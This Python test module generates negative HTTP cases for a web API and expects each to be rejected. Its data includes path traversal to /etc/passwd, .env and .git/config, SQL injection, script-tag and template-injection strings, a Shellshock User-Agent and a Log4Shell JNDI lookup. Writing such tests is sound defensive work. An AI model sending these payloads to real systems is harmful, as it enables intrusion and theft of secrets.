"""Ids, tokens, tags, keys, paths, questions and headers that are none."""

from __future__ import annotations

import json
from collections.abc import Iterator

from .case import JSON, V1, Case, Kept

GRAPH = json.dumps({"nodes": [{"id": "f", "value": 1}], "outputs": ["f"]}).encode()
GONE = "404 not-found"
IDS = {
    "one letter": "a", "21 letters": "A" * 21, "23 letters": "A" * 23, "22 that nobody has": "A" * 22, "dots": "..", "dots in percent": "%2e%2e", "a slash in percent": "..%2f..%2fetc",
    "NUL": "%00", "a line's end": "A" * 22 + "%0a", "SQL": "%27%20OR%201%3D1--", "a star": "*", "a percent": "%25", "an underscore": "_" * 22, "UTF-8": "%C3%A4" * 22,
    "bytes that are no UTF-8": "%ff%fe", "an overlong slash": "%c0%af", "5,000 letters": "x" * 5000, "a template": "%7b%7b7*7%7d%7d", "a tag": "%3Cscript%3E", "null": "null", "a number": "0",
}  # fmt: skip
PATHS = {
    "out of the folder": "/static/../app/main.py", "out in percent": "/static/%2e%2e/app/main.py", "out, twice in percent": "/static/%252e%252e/app/main.py", "out with a backslash": "/static/..%5c..%5capp",
    "out of the current": "/static/current/..%2f..%2fapp/main.py", "another host": "//host.invalid/%2f..", "a path of the system": "/static//etc/passwd", "NUL in a file": "/static/x%00.js", "an error nobody knows": "/errors/none",
    "an error out": "/errors/..%2f..%2fetc%2fpasswd", "an error as a template": "/errors/%7b%7b7*7%7d%7d", "a tag as error": "/errors/<script>alert(1)</script>", "a lesson out": f"{V1}/lessons/..%2f..%2fdata",
    "a lesson of 5,000 letters": f"{V1}/lessons/" + "x" * 5000, "a lesson of NUL": f"{V1}/lessons/%00", "a slash too many": f"{V1}/ops/", "two slashes": "//api/v1/ops", "version 2": "/api/v2/ops", "capitals": "/API/V1/OPS",
    "the sources": "/app/main.py", "git": "/.git/config", "the environment": "/.env", "the database": "/data/backprop.sqlite3", "a page of Flask's": "/console", "metrics, which are off": "/metrics", "a dot last": f"{V1}/ops.",
    "a semicolon": f"{V1}/ops;x=1", "a graph's page of nobody": "/g/" + "A" * 22 + "/..", "a node of nobody's run": f"{V1}/runs/{'A' * 22}/nodes/x",
}  # fmt: skip
QUERIES = {
    "a stranger": "?x=1", "a stranger without a value": "?x", "5,000 strangers": "?" + "&".join(f"k{k}=1" for k in range(5000)), "percent signs": "?%%%=%", "no UTF-8": "?%ff=%fe", "one of 30,000 letters": "?" + "x" * 30_000,
}  # fmt: skip
VARIANTS = {
    "past its length": "?variant=" + "9" * 65, "twice": "?variant=1&variant=2", "answers in words": "?answers=yes", "answers below zero": "?answers=-1", "a stranger beside": "?variant=1&x=2", "NUL": "?variant=%00", "a template": "?variant=%7b%7b7*7%7d%7d",
}  # fmt: skip
TYPES = {
    "none": "", "text": "text/plain", "a form": "application/x-www-form-urlencoded", "parts": "multipart/form-data; boundary=x", "JSON padded": "application/jsonp", "UTF-16": "application/json; charset=utf-16", "UTF-7": "application/json; charset=utf-7",
    "two": "application/json, text/plain", "a semicolon and no more": "application/json; x", "XML": "application/xml", "pickles": "application/x-python-pickle", "10,000 letters": "application/json; charset=" + "x" * 10_000,
}  # fmt: skip
CODINGS = (
    "gzip",
    "deflate",
    "br",
    "zstd",
    "x-gzip",
    "identity, gzip",
    "compress",
    "chunked",
    "gzip, gzip, gzip",
)
TOKENS = {
    "none": (None, "401 token-missing"), "an empty one": ("Bearer ", "401 token-missing"), "another scheme": ("Basic eDp4", "401 token-missing"), "no scheme": ("abc", "401 token-missing"), "wrong": ("Bearer " + "A" * 43, "403 token-wrong"), "short": ("Bearer a", "403 token-wrong"),
    "of 30,000 letters": ("Bearer " + "x" * 30_000, "403 token-wrong"), "of bytes past ASCII": ("Bearer \xe4\xff", "403 token-wrong"), "two": ("Bearer a, Bearer b", "403 token-wrong"), "in capitals": ("BEARER a", "403 token-wrong"), "with a tab": ("Bearer\ta", "401 token-missing"),
}  # fmt: skip
TAGS = {
    "none": (None, "428 version-missing"), "empty": ("", "412|428"), "stale": ('"1-000000000000"', "412 version-stale"), "no quotes": ("x", "412"), "a thousand": (", ".join(f'"{k}"' for k in range(1000)), "412"),
    "an open quote": ('"1-', "412"), "bytes past ASCII": ('"\xe4"', "412"), "quotes only": ('"' * 10_000, "412"), "commas only": ("," * 30_000, "412"), "blanks": (" " * 9999 + "x", "412"),
}  # fmt: skip
KEYS = {"empty": "", "256 letters": "k" * 256, "a blank within": "a b", "past ASCII": "\xe4", "a tab": "a\tb"}
HEADERS = {
    "Host of another": {"Host": "host.invalid"}, "Host of script": {"Host": "<script>"}, "forwarded for script": {"X-Forwarded-For": "<script>, 1.2.3.4"}, "forwarded by a path": {"X-Forwarded-Prefix": "/evil", "X-Forwarded-Proto": "javascript"},
    "an origin of null": {"Origin": "null"}, "an origin of script": {"Origin": "javascript:alert(1)"}, "ranges": {"Range": "bytes=" + ",".join(f"{k}-{k}" for k in range(5000))}, "a range the wrong way": {"Range": "bytes=9-1"},
    "tags": {"If-None-Match": ", ".join(f'"{k}"' for k in range(3000))}, "a date that is none": {"If-Modified-Since": "yesterday"}, "cookies": {"Cookie": "; ".join(f"c{k}={k}" for k in range(2000))}, "languages": {"Accept-Language": ",".join(["x"] * 5000)},
    "nothing accepted": {"Accept": "application/x-none"}, "codings": {"Accept-Encoding": ",".join(["gzip;q=0.1"] * 3000)}, "another method": {"X-HTTP-Method-Override": "DELETE"}, "an upgrade to HTTP/2": {"Connection": "Upgrade, HTTP2-Settings", "Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"},
    "a request id of lines": {"X-Request-ID": "x\ty"}, "a hop by hop": {"Connection": "host, content-length"}, "a shell": {"User-Agent": "() { :; }; echo x"}, "a lookup": {"User-Agent": "${jndi:ldap://host.invalid/a}"}, "an expectation nobody meets": {"Expect": "the-best"},
}  # fmt: skip


def of_ids() -> Iterator[Case]:
    """404, whatever is done to what nobody has."""
    auth = JSON | {"Authorization": "Bearer " + "A" * 43, "If-Match": '"1"'}
    for name, one in IDS.items():
        for path, method in (
            (f"/graphs/{one}", "GET"),
            (f"/graphs/{one}", "PUT"),
            (f"/graphs/{one}", "DELETE"),
            (f"/graphs/{one}/runs", "POST"),
            (f"/runs/{one}", "GET"),
            (f"/runs/{one}/backward", "POST"),
        ):
            body = None if method in ("GET", "DELETE") else GRAPH if method == "PUT" else b"{}"
            yield Case(
                f"ids, {method} {path.split('/')[1]}{'/' + path.rsplit('/', 1)[1] if path.count('/') > 2 else ''}",
                name,
                V1 + path,
                GONE,
                body,
                method,
                auth,
            )


def of_tokens(kept: Kept) -> Iterator[Case]:
    """401 without one, 403 with another; and nothing is changed without the tag of what is there."""
    path = f"{V1}/graphs/{kept.graph}"
    for name, (token, wanted) in TOKENS.items():
        headers = JSON | {"If-Match": kept.tag} | ({} if token is None else {"Authorization": token})
        for method in ("PUT", "DELETE"):
            yield Case(
                f"tokens, {method}", name, path, wanted, GRAPH if method == "PUT" else None, method, headers
            )
    for name, (tag, wanted) in TAGS.items():
        headers = (
            JSON | {"Authorization": f"Bearer {kept.token}"} | ({} if tag is None else {"If-Match": tag})
        )
        yield Case("tags", name, path, wanted, GRAPH, "PUT", headers)
    for name, key in KEYS.items():
        yield Case(
            "keys of repeats",
            name,
            f"{V1}/graphs",
            "422 bad-setting",
            GRAPH,
            headers=JSON | {"Idempotency-Key": key},
        )


def cases(kept: Kept) -> Iterator[Case]:
    """All of them."""
    yield from of_ids()
    yield from of_tokens(kept)
    for name, path in PATHS.items():
        yield Case("paths", name, path, GONE, None, "GET", {})
    for name, query in QUERIES.items():
        for path in ("/ops", "/openapi.json", f"/graphs/{kept.graph}"):
            yield Case(
                f"questions of {path.split('/')[1]}",
                name,
                V1 + path + query,
                "422 unknown-key",
                None,
                "GET",
                {},
            )
        yield Case(
            "questions of work", name, f"{V1}/evaluate{query}", "422 unknown-key", b'{"expression": "f = 1"}'
        )
    for name, query in VARIANTS.items():
        seed = name in ("a template", "NUL", "twice")  # any text is a seed
        wanted = "200" if seed else "422"
        yield Case("variants", name, f"{V1}/lessons/chain-rule{query}", wanted, None, "GET", {})
    for name, media_type in TYPES.items():
        headers = {"Content-Type": media_type} if media_type else {}
        yield Case("media types", name, f"{V1}/graphs", "415 unsupported-media-type", GRAPH, headers=headers)
    for coding in CODINGS:
        yield Case(
            "codings",
            coding,
            f"{V1}/evaluate",
            "415 unsupported-media-type",
            b"\x1f\x8b",
            headers=JSON | {"Content-Encoding": coding},
        )
    for name, extra in HEADERS.items():
        for path in ("/", "/static/current/main.js", f"{V1}/ops"):
            wanted = "200|206|304|404|416" if "static" in path else "200|416"
            yield Case(f"headers, {path.split('/')[-1] or 'page'}", name, path, wanted, None, "GET", extra)
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "X" * 1000):
        yield Case("methods", method[:9], f"{V1}/evaluate", "405|400", None, method, {}, plain=True)
